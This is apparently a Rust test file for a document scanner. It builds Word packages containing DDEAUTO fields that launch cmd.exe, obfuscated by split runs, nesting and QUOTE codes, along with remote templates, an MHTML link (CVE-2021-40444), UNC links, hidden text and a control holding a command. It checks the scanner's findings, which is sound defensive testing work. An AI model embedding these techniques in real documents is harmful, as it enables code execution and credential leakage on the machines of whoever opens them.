//! Documents: fields wherever they stand, texts that nobody sees, relationships that lead out.

use docsift_corpus::ooxml::{Pack, XML, escape};

use super::{RELATIONS, check, said_besides, with_control, with_custom_xml, with_interface};

const MAIN: &str = "word/document.xml";
const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const WORD: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.";

pub(super) fn run(text: &str) -> String {
    format!("<w:r><w:t xml:space=\"preserve\">{}</w:t></w:r>", escape(text))
}

pub(super) fn paragraph(inner: &str) -> String {
    format!("<w:p>{inner}</w:p>")
}

/// A document with a paragraph and `more` behind it.
pub(super) fn plain(more: &str) -> Pack {
    let body = format!(
        "{XML}<w:document xmlns:w=\"{W}\" xmlns:r=\"{RELATIONS}\" xmlns:o=\"o\" xmlns:v=\"v\" xmlns:wp=\"wp\"><w:body>{}{more}</w:body></w:document>",
        paragraph(&run("Minutes"))
    );
    let mut pack = Pack::new(MAIN, &format!("{WORD}document.main+xml"), &body);
    pack.properties("Minutes", "docsift");
    pack
}

/// A document with a story beside its body: `header`, `footnotes`, `comments`.
fn beside(mut pack: Pack, kind: &str, root: &str, inner: &str) -> Pack {
    let content = format!("{XML}<w:{root} xmlns:w=\"{W}\" xmlns:r=\"{RELATIONS}\">{inner}</w:{root}>");
    pack.part(&format!("word/{kind}1.xml"), &format!("{WORD}{kind}+xml"), content.into_bytes());
    pack.relate(MAIN, &format!("rId{kind}"), kind, &format!("{kind}1.xml"));
    pack
}

/// A document whose settings have a relationship to a template.
fn templated(target: &str) -> Pack {
    let mut pack = beside(plain(""), "settings", "settings", "<w:attachedTemplate r:id=\"rId1\"/>");
    pack.external("word/settings1.xml", "rId1", "attachedTemplate", target);
    pack
}

/// A field of runs: each piece of the instruction in a run of its own, or as it is when it is XML.
fn field(pieces: &[&str]) -> String {
    let character = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let written = |piece: &&str| {
        if piece.starts_with('<') {
            (*piece).to_owned()
        } else {
            format!("<w:r><w:instrText xml:space=\"preserve\">{}</w:instrText></w:r>", escape(piece))
        }
    };
    let pieces: String = pieces.iter().map(written).collect();
    format!("{}{pieces}{}{}{}", character("begin"), character("separate"), run("!"), character("end"))
}

/// A DDE field, a header, a note, a template, hidden text and a control in one document.
pub(super) fn everything() -> Pack {
    let mut pack = plain(&paragraph(&format!(
        "{}<w:r><w:rPr><w:vanish/></w:rPr><w:t>Unseen</w:t></w:r>",
        field(&["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\""])
    )));
    pack = beside(pack, "header", "hdr", &paragraph(&run("A header")));
    pack = beside(
        pack,
        "footnotes",
        "footnotes",
        &format!("<w:footnote>{}</w:footnote>", paragraph(&run("A note"))),
    );
    pack = beside(pack, "settings", "settings", "<w:attachedTemplate r:id=\"rId1\"/>");
    pack.external("word/settings1.xml", "rId1", "attachedTemplate", "https://one.invalid/Letter.dotm");
    with_control(pack, MAIN)
}

#[test]
fn fields_are_told_wherever_they_stand_and_however_they_are_written() {
    let without = plain("");
    const COMMAND: &str = "c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"";
    let dde = field(&["DDE", "AUTO ", COMMAND]);
    let codes = |text: &str| text.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(" ");
    let quote = field(&[&format!(" QUOTE {} ", codes("DDEAUTO"))]);
    let inside = field(&[" IF 1 = 1 ", &dde, " \"\" "]);
    let place = |kind: &str, root: &str, item: &str| {
        let inner = if item.is_empty() {
            paragraph(&dde)
        } else {
            format!("<w:{item}>{}</w:{item}>", paragraph(&dde))
        };
        said_besides(&beside(plain(""), kind, root, &inner), &without)
    };
    let body = |inner: &str| said_besides(&plain(&paragraph(inner)), &without);
    let boxed = format!(
        "<w:r><w:pict><v:shape><v:textbox><w:txbxContent>{}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>",
        paragraph(&dde)
    );
    check(vec![
        (
            "split runs",
            body(&dde),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "body: !",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "an attribute",
            body(&format!("<w:fldSimple w:instr=\"{}\"/>", escape(&format!("DDE {COMMAND}")))),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data <DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDE c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "QUOTE",
            body(&field(&[&quote, " ", COMMAND])),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC004 a field writes \"DDEAUTO\" as numbers <QUOTE 68 68 69 65 85 84 79>",
                "body: !!",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "nested",
            body(&inside),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "body: !!",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "without an end",
            body(
                "<w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDEAUTO cmd /c oxnv1.exe</w:instrText></w:r>",
            ),
            &[
                "LNK004 a command line: cmd /c oxnv1.exe <cmd /c oxnv1.exe>",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO cmd /c oxnv1.exe>",
                "DOC002 a field starts cmd <DDEAUTO cmd /c oxnv1.exe>",
                "command: cmd /c oxnv1.exe",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "header",
            place("header", "hdr", ""),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "header: !",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "footer",
            place("footer", "ftr", ""),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "header: !",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "footnote",
            place("footnotes", "footnotes", "footnote"),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "footnote: !",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "endnote",
            place("endnotes", "endnotes", "endnote"),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "footnote: !",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "comment",
            place("comments", "comments", "comment"),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "comment: !",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "text box",
            body(&boxed),
            &[
                "LNK004 a command line: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\" <c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC001 a field asks another program for data when the document is opened <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "DOC002 a field starts cmd <DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\">",
                "text_box: !",
                "file_path: c:\\\\windows\\\\system32\\\\cmd.exe",
                "command: c:\\\\windows\\\\system32\\\\cmd.exe \"/c oxnv1.exe\"",
                "executable: oxnv1.exe",
            ],
        ),
        (
            "INCLUDETEXT",
            body(&field(&[" INCLUDETEXT \"\\\\\\\\files.invalid\\\\share\\\\terms.docx\" "])),
            &[
                "DOC003 a field takes in \"\\\\\\\\files.invalid\\\\share\\\\terms.docx\" <INCLUDETEXT \"\\\\\\\\files.invalid\\\\share\\\\terms.docx\">",
                "body: !",
                "unc_path: \\\\files.invalid\\share\\terms.docx",
                "host: files.invalid",
            ],
        ),
        (
            "INCLUDEPICTURE",
            body(&field(&[" INCLUDE", "PICTURE \"http://one.invalid/a.png\" \\d "])),
            &[
                "DOC003 a field takes in \"http://one.invalid/a.png\" <INCLUDEPICTURE \"http://one.invalid/a.png\" \\d>",
                "body: !",
                "url: http://one.invalid/a.png",
                "host: one.invalid",
            ],
        ),
    ]);
}

#[test]
fn texts_are_told_with_their_place_and_whether_they_are_seen() {
    let without = plain("");
    let look = |properties: &str| {
        said_besides(
            &plain(&paragraph(&format!("<w:r><w:rPr>{properties}</w:rPr><w:t>Terms</w:t></w:r>"))),
            &without,
        )
    };
    let place = |kind: &str, root: &str, item: &str| {
        let text = paragraph(&run("Terms"));
        let inner = if item.is_empty() { text } else { format!("<w:{item}>{text}</w:{item}>") };
        said_besides(&beside(plain(""), kind, root, &inner), &without)
    };
    let body = |inner: &str| said_besides(&plain(&paragraph(inner)), &without);
    let boxed = format!(
        "<w:r><w:pict><v:shape alt=\"A shape\"><v:textbox><w:txbxContent>{}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>",
        paragraph(&run("Terms"))
    );
    check(vec![
        ("vanish", look("<w:vanish/>"), &["body, not visible: Terms"]),
        ("vanish that is off", look("<w:vanish w:val=\"0\"/>"), &["body: Terms"]),
        ("white", look("<w:color w:val=\"FFFFFF\"/>"), &["body, not visible: Terms"]),
        (
            "white on black",
            look("<w:color w:val=\"FFFFFF\"/><w:shd w:val=\"clear\" w:fill=\"000000\"/>"),
            &["body: Terms"],
        ),
        ("one point", look("<w:sz w:val=\"2\"/>"), &["body, not visible: Terms"]),
        ("eleven points", look("<w:sz w:val=\"22\"/>"), &["body: Terms"]),
        ("header", place("header", "hdr", ""), &["header: Terms"]),
        ("footer", place("footer", "ftr", ""), &["header: Terms"]),
        ("footnote", place("footnotes", "footnotes", "footnote"), &["footnote: Terms"]),
        ("endnote", place("endnotes", "endnotes", "endnote"), &["footnote: Terms"]),
        ("comment", place("comments", "comments", "comment"), &["comment: Terms"]),
        ("text box and alternative text", body(&boxed), &["alt_text: A shape", "text_box: Terms"]),
        (
            "alternative text of a picture",
            body(
                "<w:r><w:drawing><wp:docPr id=\"1\" name=\"P\" title=\"A map\" descr=\"of it\"/></w:drawing></w:r>",
            ),
            &["alt_text: A map of it"],
        ),
    ]);
}

#[test]
fn every_relationship_that_leads_out_is_told() {
    let without = plain("");
    let linked = |kind: &str, target: &str| {
        let mut pack = plain("");
        pack.external(MAIN, "rIdX", kind, target);
        said_besides(&pack, &without)
    };
    let template = |target: &str| said_besides(&templated(target), &without);
    check(vec![
        (
            "template",
            template("https://one.invalid/Letter.dotm"),
            &[
                "LNK006 the template is fetched from \"https://one.invalid/Letter.dotm\" <https://one.invalid/Letter.dotm>",
                "url: https://one.invalid/Letter.dotm",
                "host: one.invalid",
            ],
        ),
        (
            "template in a share",
            template("\\\\files.invalid\\t\\Letter.dotm"),
            &[
                "LNK010 an attached template contacts another computer: \"\\\\\\\\files.invalid\\\\t\\\\Letter.dotm\" <\\\\files.invalid\\t\\Letter.dotm>",
                "unc_path: \\\\files.invalid\\t\\Letter.dotm",
                "host: files.invalid",
            ],
        ),
        (
            "object",
            linked("oleObject", "http://one.invalid/a.html"),
            &[
                "LNK008 a linked object is fetched from \"http://one.invalid/a.html\" <http://one.invalid/a.html>",
                "url: http://one.invalid/a.html",
                "host: one.invalid",
            ],
        ),
        (
            "object of a package",
            linked("package", "http://one.invalid/a.xlsx"),
            &[
                "LNK008 a linked object is fetched from \"http://one.invalid/a.xlsx\" <http://one.invalid/a.xlsx>",
                "url: http://one.invalid/a.xlsx",
                "host: one.invalid",
            ],
        ),
        (
            "object through an archive of a page",
            linked("oleObject", "MHTML:http://one.invalid/a.html!x-usc:http://one.invalid/a.html"),
            &[
                "LNK009 a linked object opens a page as a part of the document (CVE-2021-40444): \"MHTML:http://one.invalid/a.html!x-usc:http://one.invalid/a.html\" <MHTML:http://one.invalid/a.html!x-usc:http://one.invalid/a.html>",
                "url: http://one.invalid/a.html!x-usc:http://one.invalid/a.html",
                "host: one.invalid",
                "url: http://one.invalid/a.html",
            ],
        ),
        (
            "frame",
            linked("frame", "http://one.invalid/a.docx"),
            &[
                "LNK011 a frame is fetched from \"http://one.invalid/a.docx\" <http://one.invalid/a.docx>",
                "url: http://one.invalid/a.docx",
                "host: one.invalid",
            ],
        ),
        (
            "subdocument",
            linked("subDocument", "http://one.invalid/a.docx"),
            &[
                "LNK011 a subdocument is fetched from \"http://one.invalid/a.docx\" <http://one.invalid/a.docx>",
                "url: http://one.invalid/a.docx",
                "host: one.invalid",
            ],
        ),
        (
            "subdocument in a share",
            linked("subDocument", "\\\\files.invalid\\a.docx"),
            &[
                "LNK010 a subdocument contacts another computer: \"\\\\\\\\files.invalid\\\\a.docx\" <\\\\files.invalid\\a.docx>",
                "unc_path: \\\\files.invalid\\a.docx",
                "host: files.invalid",
            ],
        ),
        (
            "picture",
            linked("image", "http://one.invalid/a.png"),
            &["url: http://one.invalid/a.png", "host: one.invalid"],
        ),
        (
            "picture in a share",
            linked("image", "file://files.invalid/a.png"),
            &[
                "LNK010 an image contacts another computer: \"file://files.invalid/a.png\" <file://files.invalid/a.png>",
                "url: file://files.invalid/a.png",
                "host: files.invalid",
            ],
        ),
        (
            "chunk",
            linked("aFChunk", "http://one.invalid/a.rtf"),
            &[
                "LNK011 an imported chunk is fetched from \"http://one.invalid/a.rtf\" <http://one.invalid/a.rtf>",
                "url: http://one.invalid/a.rtf",
                "host: one.invalid",
            ],
        ),
        (
            "film",
            linked("video", "http://one.invalid/a.mp4"),
            &["url: http://one.invalid/a.mp4", "host: one.invalid"],
        ),
        (
            "hyperlink",
            linked("hyperlink", "http://one.invalid/a"),
            &["url: http://one.invalid/a", "host: one.invalid"],
        ),
        (
            "hyperlink to a share",
            linked("hyperlink", "file:///\\\\files.invalid\\a"),
            &["url: file://files.invalid/a", "host: files.invalid"],
        ),
        (
            "hyperlink to an archive of a page",
            linked("hyperlink", "mhtml:http://one.invalid/a!x-usc:http://one.invalid/b"),
            &[
                "LNK009 a hyperlink opens a page as a part of the document (CVE-2021-40444): \"mhtml:http://one.invalid/a!x-usc:http://one.invalid/b\" <mhtml:http://one.invalid/a!x-usc:http://one.invalid/b>",
                "url: http://one.invalid/a!x-usc:http://one.invalid/b",
                "host: one.invalid",
                "url: http://one.invalid/b",
            ],
        ),
        (
            "of no known kind",
            linked("surprise", "http://one.invalid/a"),
            &["url: http://one.invalid/a", "host: one.invalid"],
        ),
    ]);
}

#[test]
fn chunks_custom_xml_controls_and_interfaces_are_told() {
    let without = plain("");
    let chunk = |name: &str, kind: &str, content: &str| {
        let mut pack = plain("<w:altChunk r:id=\"rIdC\"/>");
        pack.part(&format!("word/{name}"), kind, content.as_bytes().to_vec());
        pack.relate(MAIN, "rIdC", "aFChunk", name);
        said_besides(&pack, &without)
    };
    let custom = format!("{XML}<data><item>A text of a program</item></data>").into_bytes();
    check(vec![
        ("chunk of RTF", chunk("a.rtf", "application/rtf", "{\\rtf1 Terms of use}"), &["body: Terms of use"]),
        (
            "chunk of HTML",
            chunk("a.htm", "text/html", "<html><body><p>Terms of use</p></body></html>"),
            &["body: Terms of use"],
        ),
        ("chunk of text", chunk("a.txt", "text/plain", "Terms of use"), &["body: Terms of use"]),
        (
            "chunk of MHT",
            chunk(
                "a.mht",
                "message/rfc822",
                "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<html><body><p>Terms of use</p></body></html>",
            ),
            &["body: \nTerms of use\n"],
        ),
        (
            "custom XML",
            said_besides(&with_custom_xml(plain(""), MAIN, custom), &without),
            &["body, not visible: A text of a program"],
        ),
        (
            "control",
            said_besides(&with_control(plain(""), MAIN), &without),
            &[
                "LNK004 a command line: cmd /c oxnv1 <cmd /c oxnv1>",
                "OBJ002 a control: Forms.TextBox.1 <Forms.TextBox.1>",
                "text_box: cmd /c oxnv1",
                "command: cmd /c oxnv1",
            ],
        ),
        (
            "interface",
            said_besides(&with_interface(plain(""), " onLoad=\"Started\"", ""), &without),
            &["LNK013 the user interface calls \"Started\" without a click <Started>"],
        ),
    ]);
}
